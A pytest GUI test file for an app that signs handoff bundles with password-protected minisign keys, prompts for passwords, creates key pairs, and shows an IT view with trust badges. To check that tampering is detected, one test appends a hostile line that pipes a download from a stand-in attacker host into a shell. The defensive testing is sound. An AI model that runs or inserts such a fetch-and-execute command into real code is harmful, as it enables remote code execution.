"""Signing from the Bundle step (issue 11, item 5 in the app): a password-protected minisign key, asked without echo,
unlocked off the GUI thread; the bundle it signs verifies with ``handoff verify --trust`` of the public key."""
from __future__ import annotations

from pathlib import Path

import pytest
from PySide6.QtWidgets import QFileDialog, QInputDialog, QLineEdit

from handoff_assistant.bundle import verify_bundle
from handoff_assistant.cli import main
from handoff_assistant.gui.main_window import MainWindow
from handoff_assistant.signing import SIGNATURE_NAME, load_public_key, load_secret_key, secret_key_needs_password
from handoff_assistant.user_data import user_data_dir
from tests.bundle.helpers import make_project
from tests.gui.conftest import open_and_scan
from tests.support.minisign_keys import encrypted_key, fast_limits

pytestmark = pytest.mark.gui

PASSWORD = "correct horse battery"


@pytest.fixture
def key_pair(tmp_path):
    """A password-protected secret key (libsodium's smallest scrypt limits) and its public key file."""
    made = encrypted_key(PASSWORD)
    secret, public = tmp_path / "keys" / "team.key", tmp_path / "keys" / "team.pub"
    secret.parent.mkdir()
    secret.write_text(made.text)
    public.write_text(f"untrusted comment: minisign public key\n{made.public_base64}\n")
    return secret, public


@pytest.fixture
def page(qtbot, window, tmp_path, monkeypatch):
    """The Bundle step of a scanned project, building quickly (installed engine) into tmp_path/out."""
    open_and_scan(qtbot, window, make_project(tmp_path / "tiny-scorer"))
    monkeypatch.setattr("handoff_assistant.gui.pages.bundle.ask_not_ready_reason", lambda parent, blockers: "pilot")
    window.project_view.show_page("bundle")
    bundle_page = window.project_view.page("bundle")
    bundle_page.output_edit.setText(str(tmp_path / "out"))
    bundle_page.engine_combo.setCurrentIndex(bundle_page.engine_combo.findData("installed"))
    return bundle_page


def choose_key(monkeypatch, page, path) -> None:
    monkeypatch.setattr(QFileDialog, "getOpenFileName", lambda *args, **kwargs: (str(path), ""))
    page.signing_row.choose_button.click()


def answer_password(monkeypatch, *answers: tuple[str, bool]) -> list[tuple]:
    """QInputDialog.getText answers in turn; returns what each question showed (title, label, echo mode)."""
    asked, queue = [], list(answers)

    def get_text(parent, title, label, echo=QLineEdit.EchoMode.Normal, *args, **kwargs):
        asked.append((title, label, echo))
        return queue.pop(0)

    monkeypatch.setattr(QInputDialog, "getText", get_text)
    return asked


def build(qtbot, page) -> None:
    page.build_button.click()
    qtbot.waitUntil(lambda: page.worker is None, timeout=30000)


def test_a_password_protected_key_signs_the_bundle_and_it_verifies_with_the_public_key(
        qtbot, page, key_pair, monkeypatch, capsys):
    secret, public = key_pair
    choose_key(monkeypatch, page, secret)
    asked = answer_password(monkeypatch, (PASSWORD, True))
    page.build_button.click()  # the key is unlocked on a worker; its result arrives through the event loop
    assert page.worker is not None and page.progress.isVisible() and not page.build_button.isEnabled()
    assert page.cancel_button.isEnabled()
    qtbot.waitUntil(lambda: page.worker is None, timeout=30000)
    assert asked == [("Unlock the signing key", f"Password for the signing key {secret}:",
                      QLineEdit.EchoMode.Password)]
    assert page.result is not None, page.log.toPlainText()
    key_id = load_public_key(public).id_text
    log = page.log.toPlainText().splitlines()
    assert log[0] == f"Unlocking the signing key {secret}…"
    assert f"Signed SHA256SUMS with key {key_id} ({secret}); IT checks it with the matching public key: " \
           f"handoff verify {page.result.path.name} --trust PUBKEY" in log
    assert f"signed with key {key_id}" in page.result_label.text()
    trusted = verify_bundle(page.result.path, trust=load_public_key(public))
    assert trusted.ok and trusted.signature.startswith(f"signed by the trusted key {key_id} (timestamp:")
    capsys.readouterr()
    assert main(["verify", str(page.result.path), "--trust", str(public)]) == 0
    assert f"signed by the trusted key {key_id}" in capsys.readouterr().out


def test_a_wrong_password_is_asked_again_at_once_and_the_right_one_then_signs(
        qtbot, page, key_pair, monkeypatch, errors, tmp_path):
    secret, public = key_pair
    choose_key(monkeypatch, page, secret)
    asked = answer_password(monkeypatch, ("not the password", True), (PASSWORD, True))
    build(qtbot, page)
    assert [label for _, label, _ in asked] == [f"Password for the signing key {secret}:",
                                                f"Wrong password; try again.\nPassword for the signing key {secret}:"]
    assert errors == [] and f"Wrong password for {secret}." in page.log.toPlainText()
    assert page.result is not None, page.log.toPlainText()
    assert verify_bundle(page.result.path, trust=load_public_key(public)).ok


def test_a_wrong_password_then_cancel_writes_nothing_and_the_next_build_asks_again(
        qtbot, page, key_pair, monkeypatch, errors, tmp_path):
    secret, _ = key_pair
    choose_key(monkeypatch, page, secret)
    asked = answer_password(monkeypatch, ("not the password", True), ("", False), (PASSWORD, True))
    build(qtbot, page)
    assert len(asked) == 2 and errors == []
    assert page.log.toPlainText().splitlines()[-1] == \
        f"Not built: the password of the signing key {secret} was not given; nothing was written."
    assert page.result is None and not (tmp_path / "out").exists() and page.build_button.isEnabled()
    build(qtbot, page)
    assert len(asked) == 3 and page.result is not None, page.log.toPlainText()


def test_cancelling_the_password_question_builds_nothing(qtbot, page, key_pair, monkeypatch, errors, tmp_path):
    secret, _ = key_pair
    choose_key(monkeypatch, page, secret)
    answer_password(monkeypatch, ("", False))
    page.build_button.click()
    assert page.worker is None and page.build_button.isEnabled() and not errors
    assert page.log.toPlainText() == \
        f"Not built: the password of the signing key {secret} was not given; nothing was written."
    assert not (tmp_path / "out").exists()


def test_a_file_that_is_not_a_secret_key_is_one_line_and_nothing_is_written(qtbot, page, key_pair, monkeypatch,
                                                                            errors, tmp_path):
    _, public = key_pair
    choose_key(monkeypatch, page, public)  # the public key chosen by mistake
    build(qtbot, page)
    assert errors == [(f"Cannot sign with {public}: this is not a minisign Ed25519 secret key.", "")]
    assert not (tmp_path / "out").exists()


def test_an_unprotected_key_signs_without_a_question_and_an_unsigned_build_has_no_signature(
        qtbot, page, monkeypatch, tmp_path):
    from handoff_assistant.signing import write_keypair

    write_keypair(tmp_path / "plain.key", tmp_path / "plain.pub")
    choose_key(monkeypatch, page, tmp_path / "plain.key")
    asked = answer_password(monkeypatch)
    build(qtbot, page)
    assert not asked and verify_bundle(page.result.path, trust=load_public_key(tmp_path / "plain.pub")).ok

    page.signing_row.clear_button.click()
    page.zip_check.setChecked(False)
    build(qtbot, page)
    assert page.result.path.is_dir() and not (page.result.path / SIGNATURE_NAME).exists()
    assert "Signed SHA256SUMS" not in page.log.toPlainText()


def test_the_signing_key_is_remembered_for_the_next_window_and_forgotten_when_cleared(
        qtbot, page, window, key_pair, monkeypatch, settings, tmp_path):
    secret, _ = key_pair
    assert page.signing_row.path() is None and not page.signing_row.clear_button.isEnabled()
    assert "not who built them" in page.signing_row.toolTip() and "docs/it-guide.md" in page.signing_row.toolTip()
    choose_key(monkeypatch, page, secret)
    window.close()

    again = MainWindow(settings)
    qtbot.addWidget(again)
    open_and_scan(qtbot, again, tmp_path / "tiny-scorer")
    restored = again.project_view.page("bundle").signing_row
    assert restored.path() == secret and restored.clear_button.isEnabled()
    restored.clear_button.click()
    assert restored.path_edit.text() == "" and settings.signing_key is None


# IT's bundle view: a trusted public key, and a badge that says trusted / unknown key / unsigned -------------------
def _signed_bundle(tmp_path, name, key=None):
    from handoff_assistant.bundle import BundleOptions
    from handoff_assistant.bundle.writer import write_bundle
    from tests.bundle.helpers import inputs_for

    project = make_project(tmp_path / name / "tiny-scorer")
    return write_bundle(inputs_for(project), BundleOptions(tmp_path / name / "out", zip=False, engine="installed",
                                                           sign_key=key)).path


@pytest.fixture
def it_keys(tmp_path):
    from handoff_assistant.signing import write_keypair

    for name in ("owner", "stranger"):
        write_keypair(tmp_path / f"{name}.key", tmp_path / f"{name}.pub")
    return {name: load_public_key(tmp_path / f"{name}.pub").id_text for name in ("owner", "stranger")}


def _open(qtbot, window, bundle):
    view = window.open_bundle_view(bundle)
    with qtbot.waitSignal(view.loaded, timeout=20000):
        pass
    return view


def _trust(qtbot, monkeypatch, view, path):
    """Choose the trusted key with the row's Browse…; the open bundle is checked again."""
    monkeypatch.setattr(QFileDialog, "getOpenFileName", lambda *args, **kwargs: (str(path), ""))
    with qtbot.waitSignal(view.loaded, timeout=20000):
        view.trust_row.choose_button.click()


def _badge_is_green(view) -> bool:
    return "#2e7d4f" in view.badge.styleSheet()


def test_a_bundle_signed_by_the_trusted_key_says_so_and_one_by_another_key_fails(
        qtbot, window, monkeypatch, tmp_path, it_keys, settings):
    signed = _signed_bundle(tmp_path, "signed", tmp_path / "owner.key")
    view = _open(qtbot, window, signed)
    assert view.badge.text().splitlines()[1] == (f"Signed by an unknown key {it_keys['owner']}: no trusted key is "
                                                 "chosen, so who signed it is not checked.")
    assert _badge_is_green(view) and view.prepare.run_button.isEnabled()

    _trust(qtbot, monkeypatch, view, tmp_path / "owner.pub")
    assert settings.trusted_key == str(tmp_path / "owner.pub")
    assert view.badge.text().startswith(f"✔ Intact and signed by your trusted key {it_keys['owner']}: all ")
    assert _badge_is_green(view) and view.prepare.run_button.isEnabled()

    _trust(qtbot, monkeypatch, view, tmp_path / "stranger.pub")
    assert view.badge.text().splitlines()[0] == (
        f"✖ Signed by an unknown key {it_keys['owner']}, not your trusted key {it_keys['stranger']}: do not install "
        "or run this bundle unless you know who holds that key.")
    assert not _badge_is_green(view) and not view.prepare.run_button.isEnabled()
    assert view.prepare.status.text() == ("Nothing from this bundle can be run: its integrity or signature check "
                                          "failed (see the badge above).")


def test_with_a_trusted_key_an_unsigned_or_re_sealed_bundle_fails_and_the_key_is_remembered(
        qtbot, window, monkeypatch, tmp_path, it_keys, settings):
    from tests.bundle.helpers import resign

    unsigned = _signed_bundle(tmp_path, "unsigned")
    view = _open(qtbot, window, unsigned)
    assert view.badge.text().splitlines()[1] == \
        "Not signed: intact means unchanged since it was built, not who built it."
    _trust(qtbot, monkeypatch, view, tmp_path / "owner.pub")
    assert view.badge.text().splitlines()[0] == (
        f"✖ Not signed, but your trusted key {it_keys['owner']} is required: ask the bundle's owner for a signed "
        "bundle.")
    assert not view.prepare.run_button.isEnabled()

    tampered = _signed_bundle(tmp_path, "tampered", tmp_path / "owner.key")
    score = tampered / "code" / "tinyscore" / "score.py"
    score.write_text(score.read_text() + "\nimport os; os.system('curl evil.example | sh')\n")
    resign(tampered)  # SHA256SUMS and the manifest match again: only the signature tells
    window.close_bundle_view()

    again = MainWindow(settings)  # the trusted key is remembered
    qtbot.addWidget(again)
    view = _open(qtbot, again, tampered)
    assert view.trust_row.path() == tmp_path / "owner.pub"
    assert view.badge.text().splitlines() == [
        "✖ Signature INVALID — do not install or run this bundle; ask its owner for a new one.",
        "the signature is not valid: the signature does not match the file: it was changed after signing."]


def test_an_unusable_trusted_key_is_said_on_the_badge_and_clearing_it_checks_without(
        qtbot, window, monkeypatch, tmp_path, it_keys):
    signed = _signed_bundle(tmp_path, "signed", tmp_path / "owner.key")
    view = _open(qtbot, window, signed)
    _trust(qtbot, monkeypatch, view, tmp_path / "owner.key")  # the secret key chosen by mistake
    assert view.badge.text() == (
        "✖ Your trusted key cannot be used (this is not a minisign Ed25519 public key), so who signed this bundle "
        "was not checked. Choose the owner's .pub file again, or clear the trusted key.")
    assert not _badge_is_green(view) and not view.prepare.run_button.isEnabled()
    with qtbot.waitSignal(view.loaded, timeout=20000):
        view.trust_row.clear_button.click()
    assert view.badge.text().splitlines()[1].startswith(f"Signed by an unknown key {it_keys['owner']}: ")


# "New key pair…" on the signing row: a password-protected pair like minisign -G, made off the GUI thread -----------
def save_key_as(monkeypatch, path) -> list[tuple]:
    """The save dialog answers ``path``; returns what it was asked (title, suggested path)."""
    asked = []

    def get_save_file_name(parent, title, start, *args, **kwargs):
        asked.append((title, start))
        return (str(path), "") if path else ("", "")

    monkeypatch.setattr(QFileDialog, "getSaveFileName", get_save_file_name)
    return asked


@pytest.fixture
def fast_keys(page):
    """New keys derive with libsodium's smallest scrypt limits (the page's seam), not minisign's 1 GiB."""
    page.new_key_limits = fast_limits()
    return page


def test_a_new_key_pair_is_protected_selected_and_signs_a_bundle_that_verifies_with_its_pub(
        qtbot, fast_keys, monkeypatch, settings, errors, tmp_path):
    page = fast_keys
    dialog = save_key_as(monkeypatch, tmp_path / "my keys" / "maria")  # no suffix typed: .key is added
    (tmp_path / "my keys").mkdir()
    asked = answer_password(monkeypatch, ("new pass", True), ("new pass", True))
    page.new_key_button.click()
    assert page.worker is not None and not page.build_button.isEnabled() and not page.new_key_button.isEnabled()
    assert not page.cancel_button.isEnabled()  # half-written keys cannot be cancelled
    qtbot.waitUntil(lambda: page.worker is None, timeout=30000)
    assert errors == [], page.log.toPlainText()
    secret, public = tmp_path / "my keys" / "maria.key", tmp_path / "my keys" / "maria.pub"
    assert dialog[0][0] == "Save the new secret key"
    assert Path(dialog[0][1]).parent == user_data_dir() / "keys" and Path(dialog[0][1]).suffix == ".key"
    assert [(title, echo) for title, _, echo in asked] == [("New key pair", QLineEdit.EchoMode.Password)] * 2
    assert asked[1][1] == "Type the password for maria.key again:"
    assert secret.stat().st_mode & 0o777 == 0o600 and secret_key_needs_password(secret)
    assert load_secret_key(secret, "new pass").public == load_public_key(public)
    assert page.signing_row.path() == secret and settings.signing_key == str(secret)
    key_id = load_public_key(public).id_text
    assert page.new_key_note.isVisible() and page.new_key_note.label.text() == (
        f"New key pair {key_id} (password-protected) now signs your bundles.\n"
        "Give maria.pub to IT; they choose it as Trusted key:")
    assert page.new_key_note.public_path.text() == str(public) and page.new_key_note.public_path.isReadOnly()
    opened = []
    monkeypatch.setattr("handoff_assistant.gui.pages.bundle.open_path", opened.append)
    page.new_key_note.open_folder_button.click()
    assert opened == [tmp_path / "my keys"]

    unlock = answer_password(monkeypatch, ("new pass", True))
    build(qtbot, page)
    assert [title for title, _, _ in unlock] == ["Unlock the signing key"]
    assert page.result is not None, page.log.toPlainText()
    trusted = verify_bundle(page.result.path, trust=load_public_key(public))
    assert trusted.ok and trusted.signature.startswith(f"signed by the trusted key {key_id} (timestamp:")
    page.signing_row.clear_button.click()
    assert not page.new_key_note.isVisible()  # it said this key signs your bundles; no longer true


def test_differing_and_empty_passwords_are_asked_again_and_cancel_writes_nothing(
        qtbot, fast_keys, monkeypatch, errors, tmp_path):
    page = fast_keys
    save_key_as(monkeypatch, tmp_path / "maria.key")
    asked = answer_password(monkeypatch, ("one", True), ("two", True), ("", True), ("", False))
    page.new_key_button.click()
    assert [label for _, label, _ in asked] == [
        "Password for the new secret key maria.key (asked each time it signs a bundle):",
        "Type the password for maria.key again:",
        "The two passwords differ; try again.\nPassword for the new secret key maria.key (asked each time it signs a "
        "bundle):",
        "An empty password is not allowed.\nPassword for the new secret key maria.key (asked each time it signs a "
        "bundle):"]
    assert page.worker is None and errors == [] and not page.new_key_note.isVisible()
    assert not (tmp_path / "maria.key").exists() and not (tmp_path / "maria.pub").exists()
    assert page.signing_row.path() is None
    assert page.log.toPlainText() == (f"No key pair made: the password for {tmp_path / 'maria.key'} was not given; "
                                      "nothing was written.")
    save_key_as(monkeypatch, None)  # Cancel in the save dialog: nothing asked, nothing written
    asked = answer_password(monkeypatch)
    page.new_key_button.click()
    assert asked == [] and list(tmp_path.glob("maria.*")) == []


def test_an_existing_key_or_a_folder_that_cannot_be_written_is_one_sentence(
        qtbot, fast_keys, monkeypatch, errors, tmp_path):
    page = fast_keys
    (tmp_path / "maria.pub").write_text("IT's copy\n")
    save_key_as(monkeypatch, tmp_path / "maria.key")
    asked = answer_password(monkeypatch)
    page.new_key_button.click()
    assert asked == [] and errors == [(f"Cannot make the key pair: {tmp_path / 'maria.pub'} already exists; choose "
                                       "another name (a key is never overwritten).", "")]
    assert (tmp_path / "maria.pub").read_text() == "IT's copy\n" and not (tmp_path / "maria.key").exists()

    errors.clear()
    gone = tmp_path / "removed meanwhile" / "maria.key"
    save_key_as(monkeypatch, gone)
    answer_password(monkeypatch, ("pw", True), ("pw", True))
    page.new_key_button.click()
    qtbot.waitUntil(lambda: page.worker is None, timeout=30000)
    assert errors == [(f"Cannot make the key pair: the key pair could not be written (No such file or directory: "
                       f"{gone}).", "")]
    assert page.signing_row.path() is None and page.build_button.isEnabled() and page.new_key_button.isEnabled()
